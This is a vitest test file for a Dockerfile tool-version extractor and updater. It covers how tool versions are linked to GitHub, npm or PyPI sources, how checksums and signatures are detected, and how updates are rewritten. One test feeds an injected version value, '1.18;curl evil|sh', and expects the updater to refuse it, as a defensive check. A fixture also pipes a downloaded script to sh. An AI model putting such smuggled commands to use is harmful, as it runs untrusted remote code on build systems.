// Tool pins in Dockerfiles: which ARG/ENV values are tool versions, where their versions come from, which checksums guard them.
import { describe, expect, it } from 'vitest';
import { extractTools, updateTool } from '../../../src/managers/dockerfile-tools/index.js';
import { dataOf, type Dependency } from '../../../src/types.js';

const A = 'a'.repeat(64);
const B = 'b'.repeat(64);
const C = 'c'.repeat(128);
const extra = (dep: Dependency) => dataOf(dep, 'dockerfile-tools')!;
const only = (text: string) => {
  const { deps, errors } = extractTools(text, 'Dockerfile');
  expect(errors).toEqual([]);
  expect(deps).toHaveLength(1);
  return deps[0]!;
};

describe('where a tool version comes from', () => {
  it.each([
    ['a GitHub release download, tag as written', 'https://github.com/tianon/gosu/releases/download/${V_VERSION}/gosu-amd64', 'github-releases', 'tianon/gosu', ''],
    ['a GitHub release whose tag adds a v', 'https://github.com/mikefarah/yq/releases/download/v${V_VERSION}/yq_linux_amd64', 'github-releases', 'mikefarah/yq', 'v'],
    ['a tag archive', 'https://github.com/jqlang/jq/archive/refs/tags/jq-${V_VERSION}.tar.gz', 'github-tags', 'jqlang/jq', 'jq-'],
    ['an npm tarball (any registry host)', 'https://registry.example/@yarnpkg/cli-dist/-/cli-dist-${V_VERSION}.tgz', 'npm', '@yarnpkg/cli-dist', undefined],
    ['a PyPI source file', 'https://files.example/packages/source/p/pip/pip-$V_VERSION.tar.gz', 'pypi', 'pip', undefined],
  ])('%s', (_what, url, datasource, depName, tagPrefix) => {
    const dep = only(`FROM scratch\nARG V_VERSION=1.2.3\nRUN curl -fsSLO "${url}"\n`);
    expect(dep).toMatchObject({ datasource, depName, currentValue: '1.2.3', line: 2 });
    expect(extra(dep).source?.tagPrefix).toBe(tagPrefix);
    expect(dep.skipReason).toBeUndefined();
  });

  it('reads a # freshen: comment above the declaration, with versioning and extractVersion', () => {
    const dep = only('FROM scratch\n# freshen: datasource=github-tags depName=golang/go versioning=semver extractVersion=^go(?<version>.+)$\nENV GO_VER 1.22.1\nRUN wget https://go.dev/dl/go$GO_VER.linux-amd64.tar.gz\n');
    expect(dep).toMatchObject({ datasource: 'github-tags', depName: 'golang/go', currentValue: '1.22.1', line: 3 });
    expect(extra(dep).source).toMatchObject({ versioning: 'semver', extractVersion: '^go(?<version>.+)$', from: 'comment' });
  });

  it('lists an unknown download with a skipReason that says how to declare it', () => {
    const dep = only('FROM scratch\nARG YQ_TAG=4.40.5\nRUN wget https://example.org/yq/${YQ_TAG}/yq\n');
    expect(dep).toMatchObject({ depName: 'YQ_TAG', datasource: 'unknown', currentValue: '4.40.5' });
    expect(dep.skipReason).toMatch(/^unknown-datasource: .*# freshen: datasource=/);
  });

  it('ignores versions no RUN downloads with, and URLs that use no version variable', () => {
    const { deps } = extractTools('FROM scratch\nARG APP_VERSION=1.0\nRUN echo $APP_VERSION > /v\nRUN curl -fsSL https://example.org/install.sh | sh\n', 'Dockerfile');
    expect(deps).toEqual([]);
  });

  it.each([
    ['an unknown datasource', 'datasource=sourceforge depName=x', /datasource=sourceforge is not one of/],
    ['a missing depName', 'datasource=npm', /depName= is missing/],
    ['a nested repetition', 'datasource=github-tags depName=a/b extractVersion=^(?<version>(a+)+)$', /nested repetition/],
    ['no version group', 'datasource=github-tags depName=a/b extractVersion=^v(.+)$', /no \(\?<version>/],
    ['an unknown key', 'datasource=npm depName=x registryUrl=http://x', /"registryUrl=http:\/\/x" is not one of/],
  ])('a # freshen: comment with %s is a located error and the pin is skipped', (_what, comment, message) => {
    const { deps, errors } = extractTools(`FROM scratch\n# freshen: ${comment}\nARG X_VERSION=1\nRUN wget https://github.com/a/b/releases/download/\${X_VERSION}/b\n`, 'Dockerfile');
    expect(errors).toEqual([expect.objectContaining({ file: 'Dockerfile', line: 2, message: expect.stringMatching(message) })]);
    expect(deps[0]!.skipReason).toMatch(/^invalid-annotation: /);
  });
});

describe('which checksums guard a download', () => {
  it('per-architecture case arms, each with the asset its arm names', () => {
    const dep = only(`FROM scratch
ENV GOSU_VERSION 1.17
RUN arch="$(dpkg --print-architecture)"; case "$arch" in amd64) sha256='${A}' ;; arm64) sha256='${B}' ;; esac; \\
    curl -o /gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$arch.asc"; \\
    curl -o /gosu "https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$arch"; echo "$sha256 */gosu" | sha256sum -c -
`);
    expect(dep.currentDigest).toBe(`amd64=sha256:${A} arm64=sha256:${B}`);
    expect(extra(dep).checksums.map((c) => [c.label, c.url, c.line])).toEqual([
      ['amd64', 'https://github.com/tianon/gosu/releases/download/{version}/gosu-amd64', 3],
      ['arm64', 'https://github.com/tianon/gosu/releases/download/{version}/gosu-arm64', 3],
    ]);
  });

  it('an ARG checksum referenced by the RUN, and sha512 literals', () => {
    const { deps } = extractTools(`FROM scratch
ARG TINI_VERSION=v0.19.0
ARG TINI_SHA256=${A}
ARG HELM_VERSION=3.14.0
RUN curl -Lo /tini https://github.com/krallin/tini/releases/download/\${TINI_VERSION}/tini && echo "\${TINI_SHA256}  /tini" | sha256sum -c - \\
 && curl -Lo helm.tgz https://github.com/helm/helm/releases/download/v\${HELM_VERSION}/helm.tgz && echo "${C}  helm.tgz" | sha512sum -c -
`, 'Dockerfile');
    expect(deps.map((d) => [d.depName, d.currentDigest])).toEqual([
      ['krallin/tini', `TINI_SHA256=sha256:${A}`],
      ['helm/helm', `sha512:${C}`],
    ]);
  });

  it('a URL whose architecture only the build knows: the checksum is kept with why it cannot be worked out', () => {
    const dep = only(`FROM scratch\nARG X_VERSION=1.0\nRUN curl -o x https://github.com/a/x/releases/download/\${X_VERSION}/x-$(uname -m) && echo "${A}  x" | sha256sum -c -\n`);
    expect(extra(dep).checksums[0]).toMatchObject({ url: null, problem: expect.stringMatching(/runs a command|only known when the image builds/) });
  });

  it('a hex string in a RUN that checks no checksum is not one', () => {
    const dep = only(`FROM scratch\nARG X_VERSION=1.0\nRUN curl -o x https://github.com/a/x/releases/download/\${X_VERSION}/x && echo ${A} > /id\n`);
    expect(dep.currentDigest).toBeNull();
  });

  it('notices a gpg --verify (nothing to update for it)', () => {
    const dep = only('FROM scratch\nARG X_VERSION=1.0\nRUN curl -O https://github.com/a/x/releases/download/${X_VERSION}/x && curl -O https://github.com/a/x/releases/download/${X_VERSION}/x.asc && gpg --batch --verify x.asc x\n');
    expect(extra(dep).signatureVerified).toBe(true);
  });
});

describe('update', () => {
  const text = `FROM scratch\nENV GOSU_VERSION=1.17\nRUN case "$a" in amd64) s='${A}';; arm64) s='${B.toUpperCase()}';; esac; curl -o g https://github.com/tianon/gosu/releases/download/$GOSU_VERSION/gosu-$a && echo "$s g" | sha256sum -c -\n`;

  it('writes the version and every checksum in one edit (upper-case hex stays upper-case)', () => {
    const dep = only(text);
    const after = updateTool(text, dep, { newValue: '1.18', newDigest: `amd64=sha256:${'1'.repeat(64)} arm64=sha256:${'e'.repeat(64)}` });
    expect(after).toBe(text.replace('1.17', '1.18').replace(A, '1'.repeat(64)).replace(B.toUpperCase(), 'E'.repeat(64)));
    expect(only(after)).toMatchObject({ currentValue: '1.18', currentDigest: `amd64=sha256:${'1'.repeat(64)} arm64=sha256:${'e'.repeat(64)}` });
  });

  it.each([
    ['a version that would break the shell', { newValue: '1.18;curl evil|sh', newDigest: null }, /not a tool version/],
    ['checksums of another shape', { newValue: '1.18', newDigest: `sha256:${A}` }, /needs 2 checksums/],
    ['no checksums', { newValue: '1.18', newDigest: null }, /needs 2 checksums/],
  ])('refuses %s', (_what, change, message) => {
    expect(() => updateTool(text, only(text), change)).toThrow(message);
  });
});
